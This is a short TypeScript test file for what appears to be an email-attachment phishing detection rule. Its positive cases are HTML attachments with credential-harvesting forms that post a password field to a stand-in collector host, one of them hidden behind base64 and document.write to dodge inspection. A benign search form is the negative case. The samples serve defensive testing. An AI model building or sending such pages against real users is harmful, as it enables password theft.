import type { RuleCases } from '../rule-cases.ts';

export const cases: RuleCases = {
  fires: [
    { attachment: { name: 'a.html', type: 'text/html', body: '<form action="https://collect.example/x"><input type="password"></form>' } },
    { attachment: { name: 'a.html', type: 'text/html', body: `<script>document.write(atob("${btoa('<h1>Sign in</h1><form action="https://collect.example/x"><input name="p" type="password"><button>View</button></form>')}"))</script>` } },
  ],
  spares: [{ attachment: { name: 'a.html', type: 'text/html', body: '<form action="https://search.example/"><input name="q"></form>' } }],
};
